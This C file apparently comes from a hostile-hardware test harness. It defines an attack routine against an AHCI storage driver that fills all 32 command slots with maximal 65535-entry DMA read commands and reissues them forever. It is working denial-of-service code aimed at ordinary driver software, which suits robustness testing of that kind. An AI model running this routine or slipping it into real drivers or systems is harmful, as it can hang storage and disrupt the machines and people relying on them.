// Commands of 32 MiB with 65535 PRDT entries, in all slots, again and again: the controller moves data for the driver.
#include "hostile.h"

#define TABLE_ENTRIES 0xFFFF
#define COMMAND_SLOTS 32

void Attack(MOMENT_OF_ATTACK *At) {
    ADAPTER *adapter = At->Extension;
    ULONG64 bytes = sizeof(REGISTER_FIS) + 0x80 + TABLE_ENTRIES * sizeof(PRDT_ENTRY);
    UCHAR *table = ExAllocatePoolWithTag(0x200, bytes, 'tsoH');
    UCHAR *page = ExAllocatePoolWithTag(0x200, 0x1000, 'tsoH');
    if (table == NULL || page == NULL) return;
    memset(table, 0, 0x80);
    REGISTER_FIS *fis = (REGISTER_FIS *)table;
    fis->Type = 0x27;
    fis->Flags = 0x80;
    fis->Command = ATA_READ_DMA_EXT;
    fis->Device = 0x40;
    PRDT_ENTRY *entries = (PRDT_ENTRY *)(table + 0x80);
    ULONG64 data = PhysicalOf(page);
    for (ULONG i = 0; i < TABLE_ENTRIES; i++) {
        entries[i].AddressLow = (ULONG)data;
        entries[i].AddressHigh = (ULONG)(data >> 32);
        entries[i].ByteCountMinusOne = 0x1FF;
    }
    ULONG64 address = PhysicalOf(table);
    for (ULONG slot = 0; slot < COMMAND_SLOTS; slot++) {
        COMMAND_HEADER *header = &adapter->Shared->CommandList[slot];
        header->Flags = 5 | (ULONG)TABLE_ENTRIES << 16;
        header->TableLow = (ULONG)address;
        header->TableHigh = (ULONG)(address >> 32);
    }
    fis->Count = 0xFF;
    fis->CountExp = 0xFF;
    FOREVER {
        WritePort(adapter, PxCI, 0xFFFFFFFF);
        StorPortStallExecution(1000000);
    }
}
